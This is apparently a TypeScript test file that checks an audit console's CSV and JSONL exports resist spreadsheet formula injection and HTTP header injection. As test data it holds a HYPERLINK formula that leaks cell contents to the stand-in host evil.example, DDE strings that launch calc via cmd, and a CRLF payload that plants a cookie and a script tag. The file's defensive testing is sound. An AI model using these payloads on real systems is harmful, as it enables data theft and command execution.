import { EXPORT_TYPES } from '@/lib/audit/export-format';
import { makeJob, wishOn } from '@/test/support/stuck-job';
import type { House } from '../support/house';
import { passBy } from '../support/passer-by';
import { send } from '../support/raw-request';
import { actAction, argumentsOf, postAction } from '../support/server-actions';
import { expect, test } from '../support/test';

/** Texts that a spreadsheet would run, or that would end their cell if they were not quoted. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?"&A1,"look")',
  '+1+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+9)*cmd|"/C calc"!A0',
  '\t=1+1 behind a tab',
  '\r=1+1 behind a return',
  '\n=1+1 behind a line',
  '  =1+1 behind spaces',
  '＝1+1 in full width',
  '","=1+1 behind quotes',
  '";=1+1 behind a semicolon',
];

/** Rows of a CSV in which every cell is quoted, told by its quotes and by nothing else. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
  let read = 1;
  cell.lastIndex = read;
  for (let found = cell.exec(text); found; found = cell.exec(text)) {
    rows.at(-1)?.push((found[1] ?? '').replaceAll('""', '"'));
    if (found[2] !== ',') rows.push([]);
    read = cell.lastIndex;
  }
  expect(read, 'all of the file is cells').toBe(text.length);
  return rows.slice(0, -1);
}

/** Somebody with such a name asks for something with such words, of a job with such a subject and owner. */
async function recordFormula({ database: { admin }, console }: House, formula: string): Promise<void> {
  const person = await passBy(admin, 'operator');
  await admin.query('update leasehold_auth."user" set name = $2 where id = $1', [person.id, formula]);
  const { key } = await makeJob(admin, {
    queue: 'formulas',
    subject: `${formula} `,
    owner: formula,
    stage: formula,
  });
  const wish = await wishOn(admin, 'hold', key, {
    reason: `${formula} is why.`,
    whyObsolete: formula,
    seen: {
      ...{ rule: formula, sentence: formula, readAt: '2026-11-29T03:14:09.123456Z' },
      evidence: [{ label: formula, value: formula, meaning: formula }],
    },
  });
  const answer = await postAction(console, actAction(), {
    body: argumentsOf('hold', wish),
    headers: { cookie: person.cookie },
  });
  expect(answer.text).toContain('"ok":true');
}

test('no cell of an export is a formula, and no text gets out of its cell', async ({ house }) => {
  const { admin } = house.database;
  await admin.query(`insert into public.queues (name) values ('formulas') on conflict do nothing`);
  for (const formula of FORMULAS) await recordFormula(house, formula);
  const { text } = await send(house.console.origin, {
    path: '/interventions/export?format=csv',
    headers: { cookie: house.cookieOf('reviewer') },
  });
  const [head = [], ...rows] = readCsv(text);
  expect(rows.length).toBeGreaterThanOrEqual(FORMULAS.length);
  for (const row of rows) {
    expect(row).toHaveLength(head.length);
    for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
  }
  const reasons = rows.map((row) => row[head.indexOf('reason')]?.replace(/^'/, '').trim());
  for (const formula of FORMULAS) expect(reasons).toContain(`${formula} is why.`.trim());
});

test('the name and the headers of an export are made of nothing that was asked', async ({ house }) => {
  const headers = { cookie: house.cookieOf('reviewer') };
  const injected = '%0d%0aset-cookie:%20planted=1%0d%0a%0d%0a<script>';
  for (const format of ['csv', 'jsonl'] as const) {
    for (const name of ['actor', 'action', 'subject', 'cursor', 'filename', 'outcome']) {
      const path = `/interventions/export?format=${format}&${name}=x${injected}";filename="evil.html`;
      const answer = await send(house.console.origin, { path, headers });
      expect(answer.headers['set-cookie']).toBeUndefined();
      if (answer.status === 400) continue;
      expect(answer.headers['content-type']).toBe(EXPORT_TYPES[format]);
      expect(answer.headers['content-disposition']).toMatch(
        new RegExp(`^attachment; filename="leasehold-record-[\\w-]+\\.${format}"$`),
      );
    }
    const path = `/interventions/export?format=${format}${injected}`;
    expect((await send(house.console.origin, { path, headers })).status).toBe(400);
  }
});
